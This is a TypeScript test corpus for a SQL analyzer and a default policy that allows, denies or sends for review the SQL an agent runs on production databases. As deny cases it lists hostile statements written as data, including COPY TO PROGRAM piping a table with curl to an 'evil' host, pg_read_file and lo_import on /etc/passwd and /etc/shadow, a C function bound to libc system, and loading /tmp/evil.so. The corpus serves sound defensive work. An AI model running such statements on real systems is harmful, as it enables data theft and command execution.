/**
 * The analyzer's test corpus: texts with what the analyzer must report and
 * what the default policy must decide for an agent on a production target.
 * Shared by analyzer.test.ts and policy.test.ts.
 *
 * Expectations are partial: only the fields given are checked. `tables` and
 * `dml` are written compactly: `"public.t:write"`, `"delete t nowhere"`.
 */
import type { SqlStatement } from '../../../policy/input.js';

export interface ExpectedStatement {
  node?: string;
  verb?: string;
  object_type?: string | null;
  category?: SqlStatement['category'];
  writes?: boolean;
  /** `qualified:access`, in any order, exactly these. */
  tables?: string[];
  /** `verb table where|nowhere`, exactly these. */
  dml?: string[];
  /** Exactly these, in any order. */
  functions?: string[];
  /** Must include these. */
  functionsInclude?: string[];
  settings?: string[];
  copy?: SqlStatement['copy'] | null;
  language?: string | null;
  prepared_unknown?: boolean;
  text?: string;
}

export interface Case {
  name: string;
  sql: string;
  /** Statements run before this one in the same session (PREPARE ...). */
  before?: string[];
  parseError?: boolean;
  statements?: ExpectedStatement[];
  /** The default policy's action for an agent on a production target. */
  action?: 'allow' | 'deny' | 'review';
  /** Reason codes that must be among the policy's reasons. */
  codes?: string[];
  /** Must not occur in raw or any statement text. */
  secret?: string;
}

export const CASES: Case[] = [
  // ---- reads
  {
    name: 'plain select',
    sql: 'SELECT id, email FROM public.orders WHERE id = 1',
    statements: [
      {
        node: 'SelectStmt',
        verb: 'select',
        object_type: null,
        category: 'read',
        writes: false,
        tables: ['public.orders:read'],
        dml: [],
        functions: [],
        settings: [],
      },
    ],
    action: 'allow',
  },
  {
    name: 'join, subquery, CTE name not a table',
    sql: `WITH recent AS (SELECT * FROM orders WHERE created > now() - interval '1 day')
          SELECT c.name, (SELECT count(*) FROM items i WHERE i.order_id = r.id)
          FROM recent r JOIN s.customers c ON c.id = r.customer_id
          WHERE r.id IN (SELECT order_id FROM refunds)`,
    statements: [
      {
        tables: ['orders:read', 'items:read', 's.customers:read', 'refunds:read'],
        functions: ['now', 'count'],
        writes: false,
      },
    ],
    action: 'allow',
  },
  {
    name: 'CTE of the same name as a table inside its own body is the table',
    sql: 'WITH t AS (SELECT * FROM t) SELECT * FROM t',
    statements: [{ tables: ['t:read'] }],
    action: 'allow',
  },
  {
    name: 'recursive CTE',
    sql: 'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r',
    statements: [{ tables: [], writes: false }],
    action: 'allow',
  },
  {
    name: 'schema-qualified CTE-like name is a table',
    sql: 'WITH x AS (SELECT 1) SELECT * FROM x, public.x',
    statements: [{ tables: ['public.x:read'] }],
  },
  {
    name: 'select for update is a read',
    sql: 'SELECT * FROM accounts WHERE id = 1 FOR UPDATE',
    statements: [{ verb: 'select', category: 'read', writes: false, tables: ['accounts:read'] }],
    action: 'allow',
  },
  {
    name: 'odd casing, comments, whitespace',
    sql: '  /* hi */ sElEcT\n\t*  FrOm  "Orders" -- trailing\n ;',
    statements: [
      { verb: 'select', tables: ['Orders:read'], text: 'sElEcT\n\t*  FrOm  "Orders" -- trailing' },
    ],
    action: 'allow',
  },
  {
    name: 'dollar quoting in a read',
    sql: "SELECT $$DROP TABLE t; it's fine$$, $tag$ ; $tag$ FROM t",
    statements: [{ verb: 'select', tables: ['t:read'] }],
    action: 'allow',
  },
  {
    name: 'show',
    sql: 'SHOW search_path',
    statements: [{ verb: 'show', category: 'session', writes: false, settings: [] }],
    action: 'allow',
  },
  {
    name: 'extract is not schema-qualified as written',
    sql: 'SELECT extract(year FROM now()), pg_catalog.lower(x) FROM t',
    statements: [{ functions: ['extract', 'now', 'pg_catalog.lower'] }],
  },

  // ---- DML
  {
    name: 'update without where',
    sql: 'UPDATE t SET a = 1',
    statements: [
      {
        node: 'UpdateStmt',
        verb: 'update',
        category: 'write',
        writes: true,
        dml: ['update t nowhere'],
        tables: ['t:write'],
      },
    ],
    action: 'review',
    codes: ['sql.unbounded_write', 'sql.write_in_production'],
  },
  {
    name: 'update with where',
    sql: 'UPDATE t SET a = 1 WHERE id = 2',
    statements: [{ dml: ['update t where'], writes: true }],
    action: 'review',
    codes: ['sql.write_in_production'],
  },
  {
    name: 'update from',
    sql: 'UPDATE public.t SET a = u.a FROM u WHERE t.id = u.id',
    statements: [{ dml: ['update public.t where'], tables: ['public.t:write', 'u:read'] }],
    action: 'review',
  },
  {
    name: 'delete using',
    sql: 'DELETE FROM t USING u WHERE t.id = u.id AND u.gone',
    statements: [{ verb: 'delete', dml: ['delete t where'], tables: ['t:write', 'u:read'] }],
    action: 'review',
  },
  {
    name: 'delete without where',
    sql: 'delete from t',
    statements: [{ dml: ['delete t nowhere'] }],
    action: 'review',
    codes: ['sql.unbounded_write'],
  },
  {
    name: 'insert select with function',
    sql: "INSERT INTO audit (msg) SELECT lower(name) FROM users WHERE id = nextval('s')",
    statements: [
      {
        verb: 'insert',
        dml: ['insert audit nowhere'],
        tables: ['audit:write', 'users:read'],
        functions: ['lower', 'nextval'],
      },
    ],
    action: 'review',
  },
  {
    name: 'insert on conflict do update',
    sql: 'INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 2',
    statements: [{ dml: ['insert t nowhere', 'update t where'] }],
    action: 'review',
  },
  {
    name: 'merge',
    sql: `MERGE INTO t USING s ON t.id = s.id
          WHEN MATCHED THEN UPDATE SET a = s.a
          WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.a)`,
    statements: [
      { node: 'MergeStmt', verb: 'merge', dml: ['merge t where'], tables: ['t:write', 's:read'] },
    ],
    action: 'review',
  },
  {
    name: 'data-modifying CTE',
    sql: 'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d',
    statements: [
      {
        node: 'SelectStmt',
        verb: 'select',
        category: 'write',
        writes: true,
        dml: ['delete t nowhere'],
        tables: ['t:write'],
      },
    ],
    action: 'review',
    codes: ['sql.unbounded_write'],
  },
  {
    name: 'data-modifying CTE inside an insert',
    sql: 'WITH u AS (UPDATE t SET x = 1 WHERE id = 3 RETURNING id) INSERT INTO log SELECT id FROM u',
    statements: [
      { dml: ['update t where', 'insert log nowhere'], tables: ['t:write', 'log:write'] },
    ],
    action: 'review',
  },
  {
    name: 'select into creates a table',
    sql: 'SELECT * INTO newtable FROM t',
    statements: [
      { verb: 'create', object_type: 'table', writes: true, tables: ['newtable:write', 't:read'] },
    ],
    action: 'review',
  },
  {
    name: 'create table as',
    sql: 'CREATE TABLE x AS SELECT * FROM t',
    statements: [
      {
        node: 'CreateTableAsStmt',
        verb: 'create',
        object_type: 'table',
        category: 'ddl',
        writes: true,
        tables: ['x:write', 't:read'],
      },
    ],
    action: 'review',
  },

  // ---- DROP in every form
  {
    name: 'drop table',
    sql: 'drop table t',
    statements: [{ node: 'DropStmt', verb: 'drop', object_type: 'table', tables: ['t:write'] }],
    action: 'deny',
    codes: ['sql.drop'],
  },
  {
    name: 'drop table if exists, several, cascade',
    sql: 'DROP TABLE IF EXISTS a, s.b CASCADE',
    statements: [{ verb: 'drop', tables: ['a:write', 's.b:write'] }],
    action: 'deny',
    codes: ['sql.drop'],
  },
  {
    name: 'drop schema',
    sql: 'drop schema s cascade',
    statements: [{ verb: 'drop', object_type: 'schema', tables: [] }],
    action: 'deny',
    codes: ['sql.drop'],
  },
  {
    name: 'drop owned by',
    sql: 'drop owned by bob',
    statements: [{ node: 'DropOwnedStmt', verb: 'drop' }],
    action: 'deny',
    codes: ['sql.drop'],
  },
  {
    name: 'drop database',
    sql: 'drop database prod',
    statements: [{ node: 'DropdbStmt', verb: 'drop', object_type: 'database' }],
    action: 'deny',
    codes: ['sql.drop'],
  },
  {
    name: 'drop role',
    sql: 'drop role bob',
    statements: [{ node: 'DropRoleStmt', verb: 'drop', object_type: 'role', category: 'dcl' }],
    action: 'deny',
    codes: ['sql.drop', 'sql.role_management'],
  },
  {
    name: 'drop user and group',
    sql: 'DROP USER u; DROP GROUP g',
    statements: [
      { verb: 'drop', object_type: 'role' },
      { verb: 'drop', object_type: 'role' },
    ],
    action: 'deny',
  },
  {
    name: 'drop function',
    sql: 'drop function f(int)',
    statements: [{ verb: 'drop', object_type: 'function', tables: [] }],
    action: 'deny',
  },

  // ---- TRUNCATE, ALTER SYSTEM
  {
    name: 'truncate',
    sql: 'TRUNCATE t',
    statements: [{ node: 'TruncateStmt', verb: 'truncate', writes: true, tables: ['t:write'] }],
    action: 'deny',
    codes: ['sql.truncate'],
  },
  {
    name: 'truncate only',
    sql: 'TRUNCATE ONLY a, public.b RESTART IDENTITY',
    statements: [{ verb: 'truncate', tables: ['a:write', 'public.b:write'] }],
    action: 'deny',
    codes: ['sql.truncate'],
  },
  {
    name: 'alter system',
    sql: "ALTER SYSTEM SET shared_preload_libraries = 'x'",
    statements: [
      {
        node: 'AlterSystemStmt',
        verb: 'alter',
        object_type: 'system',
        writes: true,
        settings: ['shared_preload_libraries'],
      },
    ],
    action: 'deny',
    codes: ['sql.alter_system'],
  },

  // ---- roles
  {
    name: 'create role with password',
    sql: "CREATE ROLE r LOGIN PASSWORD 'hunter2-secret'",
    statements: [{ node: 'CreateRoleStmt', verb: 'create', object_type: 'role', category: 'dcl' }],
    action: 'deny',
    codes: ['sql.role_management'],
    secret: 'hunter2-secret',
  },
  {
    name: 'create user with encrypted password',
    sql: "create user u with encrypted password 'md5abcdefsecret' valid until '2030-01-01'",
    statements: [
      {
        verb: 'create',
        object_type: 'user',
        text: "create user u with encrypted password '***' valid until '2030-01-01'",
      },
    ],
    action: 'deny',
    secret: 'md5abcdefsecret',
  },
  {
    name: 'create group',
    sql: 'CREATE GROUP g',
    statements: [{ verb: 'create', object_type: 'group' }],
    action: 'deny',
    codes: ['sql.role_management'],
  },
  {
    name: 'alter role password, escape string',
    sql: "ALTER ROLE r PASSWORD E'it\\'s-a-secret'",
    statements: [{ node: 'AlterRoleStmt', verb: 'alter', object_type: 'role' }],
    action: 'deny',
    secret: 'a-secret',
  },
  {
    name: 'alter user with dollar-quoted password',
    sql: 'ALTER USER u WITH PASSWORD $pw$dollar-secret$pw$',
    statements: [{ verb: 'alter', object_type: 'role' }],
    action: 'deny',
    secret: 'dollar-secret',
  },
  {
    name: 'alter group add user',
    sql: 'ALTER GROUP g ADD USER u',
    statements: [{ verb: 'alter', object_type: 'role' }],
    action: 'deny',
    codes: ['sql.role_management'],
  },
  {
    name: 'alter role set',
    sql: 'ALTER ROLE r SET search_path = x',
    statements: [{ node: 'AlterRoleSetStmt', settings: ['search_path'] }],
    action: 'deny',
  },
  {
    name: 'rename role',
    sql: 'ALTER ROLE a RENAME TO b',
    statements: [{ node: 'RenameStmt', verb: 'alter', object_type: 'role', category: 'dcl' }],
    action: 'deny',
    codes: ['sql.role_management'],
  },

  // ---- privileges
  {
    name: 'grant on table',
    sql: 'GRANT SELECT ON public.t TO u',
    statements: [
      {
        node: 'GrantStmt',
        verb: 'grant',
        object_type: 'table',
        category: 'dcl',
        tables: ['public.t:write'],
      },
    ],
    action: 'deny',
    codes: ['sql.privileges'],
  },
  {
    name: 'revoke',
    sql: 'REVOKE ALL ON ALL TABLES IN SCHEMA public FROM u',
    statements: [{ verb: 'revoke', category: 'dcl' }],
    action: 'deny',
    codes: ['sql.privileges'],
  },
  {
    name: 'grant role membership',
    sql: 'GRANT admin TO bob',
    statements: [{ node: 'GrantRoleStmt', verb: 'grant', object_type: 'role' }],
    action: 'deny',
    codes: ['sql.privileges'],
  },
  {
    name: 'revoke role membership',
    sql: 'REVOKE admin FROM bob',
    statements: [{ node: 'GrantRoleStmt', verb: 'revoke', object_type: 'role' }],
    action: 'deny',
    codes: ['sql.privileges'],
  },
  {
    name: 'alter default privileges',
    sql: 'ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT SELECT ON TABLES TO u',
    statements: [{ verb: 'alter', object_type: 'default_privileges', category: 'dcl' }],
    action: 'deny',
    codes: ['sql.privileges'],
  },
  {
    name: 'reassign owned',
    sql: 'REASSIGN OWNED BY a TO b',
    statements: [{ node: 'ReassignOwnedStmt', category: 'dcl' }],
    action: 'deny',
    codes: ['sql.privileges'],
  },
  {
    name: 'alter table owner to',
    sql: 'ALTER TABLE t OWNER TO bob',
    statements: [
      {
        node: 'AlterTableStmt',
        verb: 'alter',
        object_type: 'table',
        category: 'dcl',
        tables: ['t:write'],
      },
    ],
    action: 'deny',
    codes: ['sql.privileges'],
  },
  {
    name: 'alter function owner to',
    sql: 'ALTER FUNCTION f() OWNER TO bob',
    statements: [
      { node: 'AlterOwnerStmt', verb: 'alter', object_type: 'function', category: 'dcl' },
    ],
    action: 'deny',
    codes: ['sql.privileges'],
  },

  // ---- role changes
  {
    name: 'set role',
    sql: 'SET ROLE admin',
    statements: [
      {
        node: 'VariableSetStmt',
        verb: 'set',
        category: 'session',
        writes: false,
        settings: ['role'],
      },
    ],
    action: 'deny',
    codes: ['sql.role_change'],
  },
  {
    name: 'set local role',
    sql: 'SET LOCAL ROLE admin',
    statements: [{ settings: ['role'] }],
    action: 'deny',
    codes: ['sql.role_change'],
  },
  {
    name: 'set session authorization',
    sql: 'SET SESSION AUTHORIZATION postgres',
    statements: [{ settings: ['session_authorization'] }],
    action: 'deny',
    codes: ['sql.role_change'],
  },
  {
    name: 'reset role',
    sql: 'RESET ROLE',
    statements: [{ verb: 'reset', settings: ['role'] }],
    action: 'deny',
    codes: ['sql.role_change'],
  },
  {
    name: 'reset session authorization',
    sql: 'RESET SESSION AUTHORIZATION',
    statements: [{ verb: 'reset', settings: ['session_authorization'] }],
    action: 'deny',
  },
  {
    name: 'set quoted role',
    sql: 'SET "role" TO admin',
    statements: [{ settings: ['role'] }],
    action: 'deny',
    codes: ['sql.role_change'],
  },
  {
    name: 'set_config role',
    sql: "SELECT set_config('role', 'admin', false)",
    statements: [{ verb: 'select', functions: ['set_config'], settings: ['role'] }],
    action: 'deny',
    codes: ['sql.role_change'],
  },
  {
    name: 'SET_CONFIG upper case',
    sql: "select SET_CONFIG('ROLE', 'x', false)",
    statements: [{ functions: ['set_config'], settings: ['role'] }],
    action: 'deny',
    codes: ['sql.role_change'],
  },
  {
    name: 'set_config with a non-constant name',
    sql: "SELECT set_config(name, 'x', false) FROM cfg",
    statements: [{ settings: ['*'] }],
    action: 'deny',
    codes: ['sql.role_change'],
  },
  {
    name: 'set_config named arguments, qualified, in a subquery',
    sql: "SELECT * FROM t WHERE x = (SELECT pg_catalog.set_config(setting_name => 'role'::text, new_value => 'a', is_local => true))",
    statements: [{ functions: ['pg_catalog.set_config'], settings: ['role'] }],
    action: 'deny',
  },
  {
    name: 'set_config of another setting',
    sql: "SELECT set_config('statement_timeout', '5s', true)",
    statements: [{ settings: ['statement_timeout'] }],
    action: 'allow',
  },
  {
    name: 'update pg_settings',
    sql: "UPDATE pg_settings SET setting = 'x' WHERE name = 'role'",
    statements: [
      { tables: ['pg_settings:write'], settings: ['role'], dml: ['update pg_settings where'] },
    ],
    action: 'deny',
    codes: ['sql.role_change'],
  },
  {
    name: 'update pg_settings, unbounded name',
    sql: "UPDATE pg_catalog.pg_settings SET setting = 'x' WHERE name LIKE 'ro%'",
    statements: [{ settings: ['*'] }],
    action: 'deny',
  },
  {
    name: 'set search_path',
    sql: 'SET search_path = app, public',
    statements: [{ settings: ['search_path'], writes: false }],
    action: 'allow',
  },
  {
    name: 'set time zone',
    sql: "SET TIME ZONE 'UTC'",
    statements: [{ settings: ['timezone'] }],
    action: 'allow',
  },
  {
    name: 'reset all',
    sql: 'RESET ALL',
    statements: [{ verb: 'reset', settings: ['all'] }],
    action: 'allow',
  },
  {
    name: 'discard all',
    sql: 'DISCARD ALL',
    statements: [
      { node: 'DiscardStmt', verb: 'discard', settings: ['session_authorization', 'all'] },
    ],
    action: 'deny',
    codes: ['sql.role_change'],
  },
  {
    name: 'discard plans',
    sql: 'DISCARD PLANS',
    statements: [{ verb: 'discard', settings: [] }],
    action: 'allow',
  },

  // ---- COPY
  {
    name: 'copy to program',
    sql: "COPY t TO PROGRAM 'curl -d @- http://evil'",
    statements: [
      { verb: 'copy', copy: { direction: 'to', program: true, file: false }, tables: ['t:read'] },
    ],
    action: 'deny',
    codes: ['sql.copy_program'],
  },
  {
    name: 'copy from program',
    sql: "COPY t FROM PROGRAM 'id'",
    statements: [
      {
        copy: { direction: 'from', program: true, file: false },
        tables: ['t:write'],
        writes: true,
      },
    ],
    action: 'deny',
    codes: ['sql.copy_program'],
  },
  {
    name: 'copy to a server file',
    sql: "COPY public.t TO '/tmp/x.csv' WITH (FORMAT csv)",
    statements: [{ copy: { direction: 'to', program: false, file: true } }],
    action: 'deny',
    codes: ['sql.copy_file'],
  },
  {
    name: 'copy query to a file',
    sql: "COPY (SELECT pg_read_file('/etc/passwd') FROM t) TO '/tmp/x'",
    statements: [
      {
        copy: { direction: 'to', program: false, file: true },
        tables: ['t:read'],
        functions: ['pg_read_file'],
      },
    ],
    action: 'deny',
    codes: ['sql.copy_file', 'sql.server_file_function'],
  },
  {
    name: 'copy query to stdout',
    sql: 'COPY (SELECT a, lower(b) FROM t JOIN u USING (id)) TO STDOUT',
    statements: [
      {
        copy: { direction: 'to', program: false, file: false },
        writes: false,
        tables: ['t:read', 'u:read'],
        functions: ['lower'],
      },
    ],
    action: 'allow',
  },
  {
    name: 'copy from stdin',
    sql: 'COPY t (a, b) FROM STDIN',
    statements: [
      {
        copy: { direction: 'from', program: false, file: false },
        tables: ['t:write'],
        writes: true,
      },
    ],
    action: 'review',
  },

  // ---- server files, large objects, dblink
  {
    name: 'pg_read_file in FROM',
    sql: "SELECT * FROM pg_read_file('/etc/passwd')",
    statements: [{ functions: ['pg_read_file'], tables: [] }],
    action: 'deny',
    codes: ['sql.server_file_function'],
  },
  {
    name: 'pg_catalog.pg_read_file',
    sql: "SELECT pg_catalog.pg_read_file('/etc/passwd', 0, 100)",
    statements: [{ functions: ['pg_catalog.pg_read_file'] }],
    action: 'deny',
    codes: ['sql.server_file_function'],
  },
  {
    name: 'lo_import in a CTE',
    sql: "WITH x AS (SELECT lo_import('/etc/shadow') AS oid) SELECT * FROM x",
    statements: [{ functions: ['lo_import'], tables: [] }],
    action: 'deny',
    codes: ['sql.server_file_function'],
  },
  {
    name: 'lo_export in a function argument',
    sql: "SELECT length(encode(lo_get(lo_export(1234, '/tmp/x')), 'hex'))",
    statements: [{ functionsInclude: ['lo_export', 'lo_get', 'length', 'encode'] }],
    action: 'deny',
    codes: ['sql.server_file_function'],
  },
  {
    name: 'pg_ls_dir in a where subquery',
    sql: "SELECT 1 FROM t WHERE EXISTS (SELECT 1 FROM pg_ls_dir('/') d WHERE d = 'etc')",
    statements: [{ functionsInclude: ['pg_ls_dir'] }],
    action: 'deny',
  },
  {
    name: 'server file function in a column default',
    sql: "CREATE TABLE x (a text DEFAULT pg_read_file('/etc/hostname'))",
    statements: [
      { verb: 'create', object_type: 'table', functions: ['pg_read_file'], tables: ['x:write'] },
    ],
    action: 'deny',
  },
  {
    name: 'dblink in FROM',
    sql: "SELECT * FROM dblink('host=10.0.0.1 password=dbl-secret', 'select 1') AS x(a int)",
    statements: [{ functions: ['dblink'] }],
    action: 'deny',
    codes: ['sql.dblink'],
    secret: 'dbl-secret',
  },
  {
    name: 'query_to_xml runs its SQL argument',
    sql: "SELECT query_to_xml('select pg_read_file(''/etc/passwd'') from secrets', true, true, '')",
    statements: [{ functionsInclude: ['query_to_xml', 'pg_read_file'], tables: ['secrets:read'] }],
    action: 'deny',
    codes: ['sql.server_file_function'],
  },

  // ---- extensions, languages, code
  {
    name: 'create extension',
    sql: 'CREATE EXTENSION IF NOT EXISTS dblink',
    statements: [{ node: 'CreateExtensionStmt', verb: 'create', object_type: 'extension' }],
    action: 'deny',
    codes: ['sql.create_extension'],
  },
  {
    name: 'create function plpython3u',
    sql: 'CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ import os; return 1 $$',
    statements: [
      {
        node: 'CreateFunctionStmt',
        verb: 'create',
        object_type: 'function',
        language: 'plpython3u',
      },
    ],
    action: 'deny',
    codes: ['sql.untrusted_language'],
  },
  {
    name: 'create function in C',
    sql: "CREATE OR REPLACE FUNCTION sys(cstring) RETURNS int AS '/lib/libc.so.6', 'system' LANGUAGE C STRICT",
    statements: [{ language: 'c' }],
    action: 'deny',
    codes: ['sql.untrusted_language'],
  },
  {
    name: 'create function with SQL-standard body',
    sql: 'CREATE FUNCTION add(a int, b int) RETURNS int BEGIN ATOMIC SELECT a + b; END',
    statements: [{ language: 'sql', writes: true, category: 'ddl' }],
    action: 'review',
  },
  {
    name: 'create function with RETURN body',
    sql: 'CREATE FUNCTION one() RETURNS int RETURN 1',
    statements: [{ language: 'sql' }],
    action: 'review',
  },
  {
    name: 'create function language sql string body calling a file function',
    sql: "CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$ SELECT pg_read_file('/etc/passwd') $$",
    statements: [{ language: 'sql', functions: ['pg_read_file'] }],
    action: 'deny',
    codes: ['sql.server_file_function'],
  },
  {
    name: 'create procedure plpgsql',
    sql: "CREATE PROCEDURE p() LANGUAGE 'PLPGSQL' AS $$ BEGIN DELETE FROM t; END $$",
    statements: [{ object_type: 'procedure', language: 'plpgsql', dml: [] }],
    action: 'review',
  },
  {
    name: 'create trusted language',
    sql: 'CREATE TRUSTED LANGUAGE plsh HANDLER plsh_handler',
    statements: [{ node: 'CreatePLangStmt', object_type: 'language', language: 'plsh' }],
    action: 'deny',
  },
  {
    name: 'do without language',
    sql: 'DO $$ BEGIN PERFORM pg_sleep(1); END $$',
    statements: [{ node: 'DoStmt', verb: 'do', language: 'plpgsql', writes: true }],
    action: 'deny',
    codes: ['sql.anonymous_block'],
  },
  {
    name: 'do with language',
    sql: 'DO LANGUAGE plpython3u $$ import os $$',
    statements: [{ language: 'plpython3u' }],
    action: 'deny',
    codes: ['sql.untrusted_language', 'sql.anonymous_block'],
  },
  {
    name: 'load',
    sql: "LOAD '/tmp/evil.so'",
    statements: [{ node: 'LoadStmt', verb: 'load' }],
    action: 'deny',
    codes: ['sql.untrusted_language'],
  },

  // ---- foreign servers
  {
    name: 'create server with password option',
    sql: "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'h', password 'srv-secret')",
    statements: [{ verb: 'create', object_type: 'server' }],
    action: 'deny',
    codes: ['sql.foreign_server'],
    secret: 'srv-secret',
  },
  {
    name: 'create user mapping with password',
    sql: "CREATE USER MAPPING FOR CURRENT_USER SERVER s OPTIONS (user 'remote', password 'map-secret')",
    statements: [
      {
        verb: 'create',
        object_type: 'user_mapping',
        text: "CREATE USER MAPPING FOR CURRENT_USER SERVER s OPTIONS (user 'remote', password '***')",
      },
    ],
    action: 'deny',
    codes: ['sql.foreign_server'],
    secret: 'map-secret',
  },
  {
    name: 'alter user mapping set password',
    sql: "ALTER USER MAPPING FOR bob SERVER s OPTIONS (SET password 'new-secret')",
    statements: [{ verb: 'alter', object_type: 'user_mapping' }],
    action: 'deny',
    secret: 'new-secret',
  },
  {
    name: 'alter server add password',
    sql: "ALTER SERVER s OPTIONS (ADD password 'add-secret')",
    statements: [{ verb: 'alter', object_type: 'server' }],
    action: 'deny',
    secret: 'add-secret',
  },
  {
    name: 'create foreign data wrapper',
    sql: 'CREATE FOREIGN DATA WRAPPER w',
    statements: [{ object_type: 'foreign_data_wrapper' }],
    action: 'deny',
    codes: ['sql.foreign_server'],
  },
  {
    name: 'create subscription with connection password',
    sql: "CREATE SUBSCRIPTION sub CONNECTION 'host=h password=sub-secret' PUBLICATION p",
    statements: [{ object_type: 'subscription' }],
    action: 'deny',
    codes: ['sql.foreign_server'],
    secret: 'sub-secret',
  },

  // ---- EXPLAIN, PREPARE, EXECUTE
  {
    name: 'explain analyze delete',
    sql: 'EXPLAIN ANALYZE DELETE FROM t',
    statements: [
      {
        node: 'ExplainStmt',
        verb: 'explain',
        writes: true,
        dml: ['delete t nowhere'],
        tables: ['t:write'],
      },
    ],
    action: 'review',
    codes: ['sql.unbounded_write'],
  },
  {
    name: 'explain (analyze) with options',
    sql: 'EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE id = 1',
    statements: [{ writes: true, dml: ['update t where'] }],
    action: 'review',
  },
  {
    name: 'explain without analyze',
    sql: 'EXPLAIN DELETE FROM t',
    statements: [{ writes: false, dml: [], tables: ['t:read'] }],
    action: 'allow',
  },
  {
    name: 'explain (analyze false)',
    sql: 'EXPLAIN (ANALYZE false) DELETE FROM t',
    statements: [{ writes: false, dml: [] }],
    action: 'allow',
  },
  {
    name: 'plain explain still reports functions',
    sql: "EXPLAIN SELECT pg_read_file('/etc/passwd')",
    statements: [{ writes: false, functions: ['pg_read_file'] }],
    action: 'deny',
  },
  {
    name: 'prepare a write',
    sql: 'PREPARE p AS DELETE FROM t WHERE id = $1',
    statements: [{ node: 'PrepareStmt', verb: 'prepare', writes: true, dml: ['delete t where'] }],
    action: 'review',
  },
  {
    name: 'prepare and execute in one text',
    sql: 'PREPARE p AS DELETE FROM t; EXECUTE p',
    statements: [
      { verb: 'prepare', writes: true },
      {
        node: 'ExecuteStmt',
        verb: 'execute',
        writes: true,
        dml: ['delete t nowhere'],
        tables: ['t:write'],
      },
    ],
    action: 'review',
    codes: ['sql.unbounded_write'],
  },
  {
    name: 'execute a write prepared earlier',
    before: ['PREPARE del(int) AS DELETE FROM orders WHERE id = $1'],
    sql: 'EXECUTE del(1)',
    statements: [
      {
        verb: 'execute',
        category: 'write',
        writes: true,
        dml: ['delete orders where'],
        tables: ['orders:write'],
      },
    ],
    action: 'review',
    codes: ['sql.write_in_production'],
  },
  {
    name: 'execute a read prepared earlier',
    before: ['PREPARE q AS SELECT * FROM orders'],
    sql: 'EXECUTE q',
    statements: [{ category: 'read', writes: false, tables: ['orders:read'] }],
    action: 'allow',
  },
  {
    name: 'execute after deallocate is unknown',
    before: ['PREPARE q AS SELECT 1', 'DEALLOCATE q'],
    sql: 'EXECUTE q',
    statements: [{ prepared_unknown: true }],
    action: 'deny',
  },
  {
    name: 'execute of an unknown name',
    sql: 'EXECUTE nope',
    statements: [{ node: 'ExecuteStmt', prepared_unknown: true, writes: true }],
    action: 'deny',
    codes: ['sql.unknown_prepared'],
  },
  {
    name: 'explain analyze execute of a prepared write',
    before: ['PREPARE w AS UPDATE t SET a = 1'],
    sql: 'EXPLAIN ANALYZE EXECUTE w',
    statements: [{ writes: true, dml: ['update t nowhere'] }],
    action: 'review',
    codes: ['sql.unbounded_write'],
  },
  {
    name: 'plain explain execute of a prepared write',
    before: ['PREPARE w AS UPDATE t SET a = 1'],
    sql: 'EXPLAIN EXECUTE w',
    statements: [{ writes: false, dml: [], tables: ['t:read'] }],
    action: 'allow',
  },
  {
    name: 'execute with a server file function in its parameters',
    before: ['PREPARE q(text) AS SELECT $1'],
    sql: "EXECUTE q(pg_read_file('/etc/passwd'))",
    statements: [{ functions: ['pg_read_file'] }],
    action: 'deny',
  },
  {
    name: 'deallocate',
    sql: 'DEALLOCATE ALL',
    statements: [{ verb: 'deallocate', writes: false }],
    action: 'allow',
  },

  // ---- transactions and multi-statement texts
  {
    name: 'transaction',
    sql: 'BEGIN; UPDATE accounts SET balance = balance - 10 WHERE id = 1; COMMIT',
    statements: [
      { node: 'TransactionStmt', verb: 'begin', category: 'tcl', writes: false, text: 'BEGIN' },
      {
        verb: 'update',
        dml: ['update accounts where'],
        text: 'UPDATE accounts SET balance = balance - 10 WHERE id = 1',
      },
      { verb: 'commit', category: 'tcl', text: 'COMMIT' },
    ],
    action: 'review',
  },
  {
    name: 'savepoints',
    sql: 'START TRANSACTION; SAVEPOINT a; ROLLBACK TO SAVEPOINT a; RELEASE a; ROLLBACK',
    statements: [
      { verb: 'begin' },
      { verb: 'savepoint' },
      { verb: 'rollback' },
      { verb: 'release' },
      { verb: 'rollback' },
    ],
    action: 'allow',
  },
  {
    name: 'a drop hidden after a read',
    sql: "select 1; /* ; */ DROP TABLE t; select ';'",
    statements: [{ verb: 'select' }, { verb: 'drop', text: 'DROP TABLE t' }, { verb: 'select' }],
    action: 'deny',
    codes: ['sql.drop'],
  },
  {
    name: 'dollar-quoted semicolons do not split',
    sql: 'SELECT $x$ ; DROP TABLE t; $x$; SELECT 2',
    statements: [{ verb: 'select', tables: [] }, { verb: 'select' }],
    action: 'allow',
  },

  // ---- other statements
  {
    name: 'call',
    sql: "CALL s.proc(lower('x'))",
    statements: [{ node: 'CallStmt', verb: 'call', writes: true, functions: ['s.proc', 'lower'] }],
    action: 'review',
  },
  {
    name: 'listen notify unlisten',
    sql: "LISTEN c; NOTIFY c, 'x'; UNLISTEN *",
    statements: [{ verb: 'listen' }, { verb: 'notify' }, { verb: 'unlisten' }],
    action: 'allow',
  },
  {
    name: 'lock',
    sql: 'LOCK TABLE a, s.b IN ACCESS EXCLUSIVE MODE',
    statements: [{ verb: 'lock', writes: true, tables: ['a:write', 's.b:write'] }],
    action: 'review',
  },
  {
    name: 'vacuum and analyze',
    sql: 'VACUUM FULL a; ANALYZE b',
    statements: [
      { verb: 'vacuum', tables: ['a:write'] },
      { verb: 'analyze', tables: ['b:write'] },
    ],
    action: 'review',
  },
  {
    name: 'comment on table',
    sql: "COMMENT ON TABLE s.t IS 'x'",
    statements: [{ verb: 'comment', object_type: 'table', tables: ['s.t:write'] }],
  },
  {
    name: 'create schema with elements',
    sql: 'CREATE SCHEMA app CREATE TABLE app_t (a int) CREATE VIEW app_v AS SELECT * FROM other',
    statements: [
      {
        verb: 'create',
        object_type: 'schema',
        tables: ['app_t:write', 'app_v:write', 'other:read'],
      },
    ],
    action: 'review',
  },
  {
    name: 'create view is not a data change',
    sql: 'CREATE VIEW v AS WITH d AS (SELECT * FROM t) SELECT f(x) FROM d',
